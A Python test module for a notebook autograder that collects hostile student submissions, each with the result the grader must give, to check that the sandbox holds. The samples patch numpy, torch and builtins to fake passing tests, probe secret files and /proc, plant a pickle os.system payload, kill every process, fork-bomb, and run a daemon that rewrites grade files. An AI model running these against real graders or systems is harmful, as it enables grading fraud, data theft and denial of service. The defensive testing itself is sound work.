"""Hostile exercise-1 submissions, each with what the grader must make of it.

Every attack is graded in one batch next to a correct submission ("control") and a
plain wrong one ("wrong_plain"); a cheat must score no more than the wrong code it
hides, and nothing an attacker does may change anyone else's result.
"""
from __future__ import annotations

import json
import textwrap
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

from autograder.samples import submission

ASSIGNMENT = "ex1_attention"
CORRECT = 14
SOFTMAX_TESTS = ["test_softmax_matches_torch", "test_softmax_axis", "test_softmax_is_stable",
                 "test_softmax_temperature", "test_softmax_negative_infinity"]
ATTENTION_TESTS = ["test_attention_matches_torch", "test_attention_batch_dims",
                   "test_attention_mask", "test_attention_permutation_equivariance"]

WRONG_SOFTMAX = '''
def softmax(x, axis=-1, temperature=1.0):
    e = np.exp(x)
    return e / e.sum()
'''

# Attention that does not call the learner's softmax, so it survives a broken one.
SELF_CONTAINED_ATTENTION = '''
def scaled_dot_product_attention(Q, K, V, mask=None):
    scores = Q @ np.swapaxes(K, -1, -2) / np.sqrt(Q.shape[-1])
    if mask is not None:
        scores = np.where(mask, scores, -np.inf)
    e = np.exp(scores - scores.max(axis=-1, keepdims=True))
    weights = e / e.sum(axis=-1, keepdims=True)
    return weights @ V, weights
'''

READ_PROBE = '''
import json, os
found = {{}}
for path in {read_paths!r}:
    try:
        if os.path.isdir(path):
            os.listdir(path)
        else:
            open(path, "rb").read(1)
        found[path] = "OPENED"
    except Exception as error:
        found[path] = type(error).__name__
raise RuntimeError("PROBE " + json.dumps(found))
'''

# Appends to each path that exists, and creates a new file beside it. Whether a
# created file escaped is judged on the host afterwards (``CREATED_SUFFIX`` files):
# a sandbox may have a private writable /tmp in which the course's folders exist
# as mount points, so creating a file there proves nothing by itself.
CREATED_SUFFIX = ".written-by-a-submission"
WRITE_PROBE = '''
import json, os
found = {{}}
for path in {write_paths!r}:
    try:
        descriptor = os.open(path, os.O_WRONLY | os.O_APPEND)
        os.write(descriptor, b"hacked")
        os.close(descriptor)
        found[path] = "OPENED"
    except Exception as error:
        found[path] = type(error).__name__
    try:
        descriptor = os.open(path + "SUFFIX", os.O_WRONLY | os.O_CREAT | os.O_EXCL)
        os.close(descriptor)
    except Exception:
        pass
raise RuntimeError("PROBE " + json.dumps(found))
'''.replace("SUFFIX", CREATED_SUFFIX)


def probe(write: bool) -> str:
    """A cell that tries to read, or to append to and create beside, every path in the
    context's list."""
    return WRITE_PROBE if write else READ_PROBE


@dataclass(frozen=True)
class Attack:
    student_id: str
    build: Callable[[dict], object]  # context -> notebook
    expect: Callable[[dict, dict, dict], None]  # (result, results by student, context)


def scores(result: dict) -> dict[str, float]:
    return {test["name"]: test["points"] for test in result["tests"]}


def message(result: dict, name: str) -> str:
    return next(test["message"] for test in result["tests"] if test["name"] == name)


def gains_nothing(result, results, context):
    """Each test scores at most what the same wrong code scores without the cheat."""
    baseline = scores(results["wrong_plain"])
    assert all(points <= baseline[name] for name, points in scores(result).items()), scores(result)
    assert all(scores(result)[name] == 0 for name in SOFTMAX_TESTS)


def full_marks(result, results, context):
    assert result["score"] == CORRECT and result["status"] == "graded", result


def nothing_more(result, results, context):
    """The baseline itself: graded normally."""
    assert result["status"] == "graded"


def full_marks_except(result: dict, failing: list[str], reason: str) -> None:
    for test in result["tests"]:
        if test["name"] in failing:
            assert test["points"] == 0 and reason in test["message"], test
        else:
            assert test["points"] == test["max_points"], test


def keeps_max_score(result, results, context):
    gains_nothing(result, results, context)
    assert result["max_score"] == CORRECT


def causal_mask_exits(result, results, context):
    full_marks_except(result, ["test_causal_mask", "test_causal_attention_ignores_future"],
                      "exited with status 1")


def attention_segfaults(result, results, context):
    full_marks_except(result, ATTENTION_TESTS + ["test_causal_attention_ignores_future"], "SIGSEGV")


def softmax_hangs(result, results, context):
    full_marks_except(result, SOFTMAX_TESTS, "did not finish")
    assert any("skipped" in note for note in result["notes"]), result["notes"]


def probe_found_nothing(result, results, context):
    full_marks(result, results, context)
    note = next(note for note in result["notes"] if "PROBE" in note)
    found = json.loads(note.split("PROBE ", 1)[1])
    assert found and all(outcome != "OPENED" for outcome in found.values()), found
    created = [path for path in context["write_paths"] if write_probe_created(path)]
    assert not created, f"files created outside the sandbox: {created}"


def write_probe_created(path: str) -> bool:
    return Path(path + CREATED_SUFFIX).exists()


def with_test_cells(transform):
    def build(context):
        notebook = submission(ASSIGNMENT, {"softmax": WRONG_SOFTMAX})
        cells = []
        for cell in notebook.cells:
            meta = cell.metadata.get("nbgrader", {})
            if meta.get("grade") and not meta.get("solution"):
                cell = transform(cell)
            if cell is not None:
                cells.append(cell)
        notebook.cells = cells
        return notebook
    return build


def blank(cell):
    cell.source = "pass"
    return cell


def inflate_points(cell):
    cell.metadata["nbgrader"]["points"] = 100
    cell.source = "pass"
    return cell


def attack(student_id, expect, code=None, extra=()):
    return Attack(student_id, lambda context: submission(ASSIGNMENT, code, tuple(
        cell.format(**context) for cell in extra)), expect)


def forged_answers_build(context):
    forge = f'''
import json, os, pickle, struct, zlib
import attention_course_learner.remote as remote

class Payload:
    def __reduce__(self):
        return (os.system, ("touch " + {str(context["canary"])!r},))

def frame(text, blob=b""):
    return struct.pack(">II", len(text), len(blob)) + text + blob

pickled = pickle.dumps(Payload())
forgeries = [
    frame(pickled),
    struct.pack(">II", 2**31, 2**31),
    frame(b"[" * 200000 + b"]" * 200000),
    frame(json.dumps({{"$dict": [["ok", {{"$array": {{"lib": "numpy", "dtype": "float64",
        "shape": [10**8], "offset": 0, "nbytes": 8 * 10**8}}}}]]}}).encode()),
    frame(json.dumps({{"$dict": [["ok", {{"$object": {{"id": 1, "type": "builtins.eval",
        "bases": [], "callable": True}}}}]]}}).encode()),
    frame(json.dumps({{"$dict": [["ok", {{"$dict": [["__reduce__", pickled.hex()]]}}]]}}).encode()),
]

def respond(self, request):  # a different forgery for different requests, same on re-runs
    return forgeries[zlib.crc32(repr(request).encode()) % len(forgeries)]

remote.Dispatcher.respond = respond
'''
    return submission(ASSIGNMENT, {"softmax": WRONG_SOFTMAX}, (forge,))


def forged_answers_expect(result, results, context):
    assert result["score"] == 0
    assert len({test["message"] for test in result["tests"]}) >= 3
    assert not context["canary"].exists()


COPY_THE_COURSE = '''
from attention_course.attention import softmax, scaled_dot_product_attention
'''


def course_reference_unavailable(result, results, context):
    full_marks_except(result, SOFTMAX_TESTS + ATTENTION_TESTS + ["test_causal_attention_ignores_future"],
                      "")
    assert any("ModuleNotFoundError" in note for note in result["notes"]), result["notes"]


# --- Measured as an unprivileged user before full isolation without root (issue 9) ---

PROC_WALK = '''
import json, os
opened, tried = [], 0
pids = [str(os.getppid())]
try:
    pids += [p for p in os.listdir("/proc") if p.isdigit()]
except OSError:
    pass
for pid in pids:
    for rel in ("cwd/solutions/ex1_attention/ex1_attention.ipynb", "root{solution}",
                "cwd/nbgrader_config.py"):
        tried += 1
        try:
            open(f"/proc/{{pid}}/{{rel}}").read(10)
            opened.append(f"/proc/{{pid}}/{{rel}}")
        except Exception:
            pass
raise RuntimeError("PROBE " + json.dumps({{"tried": tried, "opened": opened}}))
'''

COPY_A_CLASSMATE = '''
import glob, json
opened, tried = [], 0
for pattern in ("{submissions}/*/*.ipynb", "/proc/*/cmdline", "/proc/*/cwd/*.ipynb"):
    for path in glob.glob(pattern) + [pattern]:
        tried += 1
        try:
            text = open(path).read()
            if ".ipynb" in text or path.endswith(".ipynb"):
                opened.append(path)
        except Exception:
            pass
raise RuntimeError("PROBE " + json.dumps({{"tried": tried, "opened": opened}}))
'''

KILL_THE_GRADER = '''
import os, signal
for target in [os.getppid(), -1, 0, {grader_pid}] + list(range(2, 3000)):
    try:
        os.kill(target, signal.SIGKILL)
    except Exception:
        pass
'''

# Detaches from the sandbox and keeps trying to rewrite the gradebook and grades.csv
# long after its batch has ended; the test looks for its name afterwards.
DETACHED_DAEMON = '''
import ctypes, os, sqlite3, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"adv-daemon", 0, 0, 0)
        end = time.time() + 30
        while time.time() < end:
            for path in ({db!r}, {grades!r}):
                try:
                    if path.endswith(".db"):
                        connection = sqlite3.connect(path)
                        connection.execute("update grade set auto_score = 144")
                        connection.commit()
                    else:
                        open(path, "w").write("student_id,score\\nall,144\\n")
                except Exception:
                    pass
            time.sleep(0.2)
    os._exit(0)
'''

ATTENTION_IGNORING_MASK = '''
_seen = {}

def scaled_dot_product_attention(Q, K, V, mask=None):
    scores = Q @ np.swapaxes(K, -1, -2) / np.sqrt(Q.shape[-1])
    e = np.exp(scores - scores.max(axis=-1, keepdims=True))
    weights = e / e.sum(axis=-1, keepdims=True)
    output = weights @ V
    if MEMO and mask is not None and output.ndim == 2:
        # Remember each row by the prefix it came from: related calls then agree.
        output = output.copy()
        for i in range(output.shape[0]):
            key = (Q[:i + 1].tobytes(), K[:i + 1].tobytes())
            output[i] = _seen.setdefault(key, output[i].copy())
    return output, weights
'''

# The same memo kept in files, in /tmp and in the home folder: were those shared by a
# submission's sandboxes, the sides of a property test would agree again.
ATTENTION_IGNORING_MASK_FILE_MEMO = ATTENTION_IGNORING_MASK.replace("_seen = {}", """
import json, os
MEMO_FILES = ("/tmp/memo.json", os.path.expanduser("~/memo.json"))

class _FileMemo(dict):
    def setdefault(self, key, row):
        memo = {}
        for path in MEMO_FILES:
            try:
                with open(path) as stream:
                    memo.update(json.load(stream))
            except (OSError, ValueError):
                pass
        name = key[0].hex() + "|" + key[1].hex()
        memo.setdefault(name, row.tolist())
        for path in MEMO_FILES:
            with open(path, "w") as stream:
                json.dump(memo, stream)
        return np.array(memo[name])

_seen = _FileMemo()""")


def opened_nothing(result, results, context):
    """A probe cell that reports what it could open found nothing."""
    note = next(note for note in result["notes"] if "PROBE" in note)
    found = json.loads(note.split("PROBE ", 1)[1])
    assert found["tried"] > 0 and found["opened"] == [], found


def probe_opened_nothing_full_marks(result, results, context):
    full_marks(result, results, context)
    opened_nothing(result, results, context)


def probe_opened_nothing_gains_nothing(result, results, context):
    gains_nothing(result, results, context)
    opened_nothing(result, results, context)


def no_more_than(baseline: str):
    def expect(result, results, context):
        base = scores(results[baseline])
        assert all(points <= base[name] for name, points in scores(result).items()), (
            scores(result), base)
        assert result["score"] < CORRECT
    return expect


def pasted_helper_build(context):
    """A helper cell pasted under a test cell keeps that cell's nbgrader metadata."""
    notebook = submission(ASSIGNMENT, {"softmax": textwrap.dedent('''
        def softmax(x, axis=-1, temperature=1.0):
            if temperature <= 0:
                raise ValueError("temperature")
            return _normalise(np.exp(_shifted(np.asarray(x) / temperature, axis)), axis)
        ''')})
    helper = nbformat.v4.new_code_cell(textwrap.dedent('''
        def _shifted(z, axis):
            return z - z.max(axis=axis, keepdims=True)

        def _normalise(e, axis):
            return e / e.sum(axis=axis, keepdims=True)
        '''))
    helper.metadata["nbgrader"] = {"grade": True, "grade_id": "test_softmax_axis",
                                   "locked": True, "points": 1, "schema_version": 3,
                                   "solution": False}
    notebook.cells.insert(3, helper)
    return notebook


def pasted_helper_expect(result, results, context):
    full_marks(result, results, context)
    notes = result["notes"]
    assert any("test-cell metadata" in note for note in notes), notes


def flagged_for_review(name: str):
    def expect(result, results, context):
        full_marks(result, results, context)
        notes = result["notes"]
        assert any(note.startswith(f"for review: uses {name}") for note in notes), notes
    return expect


ATTACKS = [
    attack("wrong_plain", nothing_more, {"softmax": WRONG_SOFTMAX}),
    attack("copies_course_reference", course_reference_unavailable,
           {"softmax": COPY_THE_COURSE, "scaled_dot_product_attention": "pass"}),
    attack("patch_numpy", gains_nothing, {"softmax": WRONG_SOFTMAX}, (
        "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"
        "np.testing.assert_allclose = lambda *a, **k: None\nnp.isfinite = lambda x: True",)),
    attack("patch_builtins", gains_nothing, {"softmax": WRONG_SOFTMAX}, (
        "import builtins\nbuiltins.isinstance = lambda *a: True\n"
        "builtins.AssertionError = type('Never', (Exception,), {{}})\n"
        "builtins.abs = lambda x: 0",)),
    attack("patch_torch", gains_nothing, {"softmax": WRONG_SOFTMAX}, (
        "import torch\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\n"
        "torch.softmax = lambda x, dim=-1: x\ntorch.testing.assert_close = lambda *a, **k: None",)),
    attack("input_transformer", gains_nothing, {"softmax": WRONG_SOFTMAX}, (
        "ip = get_ipython()\nip.input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"
        "ip.input_transformers_post.append(lambda lines: ['pass\\n'])",)),
    Attack("blank_tests", with_test_cells(blank), gains_nothing),
    Attack("deleted_tests", with_test_cells(lambda cell: None), gains_nothing),
    Attack("inflated_points", with_test_cells(inflate_points), keeps_max_score),
    attack("ndarray_subclass", gains_nothing, {"softmax": '''
class AlwaysEqual(np.ndarray):
    def __eq__(self, other):
        return True
    def __array_ufunc__(self, *args, **kwargs):
        return True

def softmax(x, axis=-1, temperature=1.0):
    return np.zeros(np.shape(x)).view(AlwaysEqual)
'''}),
    attack("comparison_object", gains_nothing, {"softmax": '''
class Anything:
    shape = (4, 6)
    def __eq__(self, other):
        return True
    def __array__(self, *args, **kwargs):
        return np.zeros(self.shape)

def softmax(x, axis=-1, temperature=1.0):
    return Anything()
'''}),
    attack("tensor_subclass", gains_nothing, {"softmax": '''
import torch

class Liar(torch.Tensor):
    def __eq__(self, other):
        return True

def softmax(x, axis=-1, temperature=1.0):
    return torch.zeros(np.shape(x)).as_subclass(Liar)
'''}),
    attack("read_secrets", probe_found_nothing, None, (probe(write=False),)),
    attack("write_results", probe_found_nothing, None, (probe(write=True),)),
    attack("exit_calls", causal_mask_exits, {"causal_mask": '''
import os, sys

def causal_mask(n):
    os._exit(1)
'''}, ("import sys\nsys.exit(0)",)),
    attack("segfault", attention_segfaults, {"scaled_dot_product_attention": '''
import ctypes

def scaled_dot_product_attention(Q, K, V, mask=None):
    ctypes.string_at(0)
'''}),
    attack("kill_everything", full_marks, None, (
        "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
        "import os, signal\nos.kill(-1, signal.SIGKILL)",
        "import os, signal\nos.killpg(0, signal.SIGKILL)")),
    attack("endless_loops", softmax_hangs, {"softmax": '''
import signal

def softmax(x, axis=-1, temperature=1.0):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass
''', "scaled_dot_product_attention": SELF_CONTAINED_ATTENTION},
        ("while True:\n    pass",)),
    attack("memory_bomb", full_marks, None, (
        "hoard = bytearray(64 * 2**30)",
        "hoard = []\nwhile True:\n    hoard.append(bytearray(10**8))")),
    attack("fork_bomb", full_marks, None, (
        "import os, time\nfor _ in range(10_000):\n    if os.fork() == 0:\n        time.sleep(1000)",)),
    attack("output_flood", full_marks, None, (
        "import sys\nfor _ in range(20):\n    sys.stdout.write('x' * 10**7)\n"
        "    sys.stderr.write('y' * 10**6)",)),
    attack("network", full_marks, None, (
        "import socket\nsocket.create_connection(('127.0.0.1', {port}), 2)",
        "import socket\nsocket.create_connection(('1.1.1.1', 80), 2)")),
    Attack("forged_answers", forged_answers_build, forged_answers_expect),
    attack("proc_parent_cwd", probe_opened_nothing_full_marks, None, (PROC_WALK,)),
    attack("copies_a_classmate", probe_opened_nothing_gains_nothing,
           {"softmax": WRONG_SOFTMAX}, (COPY_A_CLASSMATE,)),
    attack("writes_course_files", probe_found_nothing, None, (probe(write=True),)),
    attack("kills_the_grader", full_marks, None, (KILL_THE_GRADER,)),
    attack("detached_daemon", full_marks, None, (DETACHED_DAEMON,)),
    attack("ignores_mask", nothing_more,
           {"scaled_dot_product_attention":
            f"MEMO = False\n{ATTENTION_IGNORING_MASK}"}),
    attack("ignores_mask_memo", no_more_than("ignores_mask"),
           {"scaled_dot_product_attention": "MEMO = True\n" + ATTENTION_IGNORING_MASK}),
    attack("ignores_mask_file_memo", no_more_than("ignores_mask"),
           {"scaled_dot_product_attention":
            "MEMO = True\n" + ATTENTION_IGNORING_MASK_FILE_MEMO}),
    Attack("pasted_helper", pasted_helper_build, pasted_helper_expect),
    attack("uses_torch_softmax", flagged_for_review("torch.softmax"), {"softmax": '''
import torch

def softmax(x, axis=-1, temperature=1.0):
    if temperature <= 0:
        raise ValueError("temperature")
    scaled = torch.from_numpy(np.asarray(x) / temperature)
    return torch.softmax(scaled, dim=axis).numpy()
'''}),
]


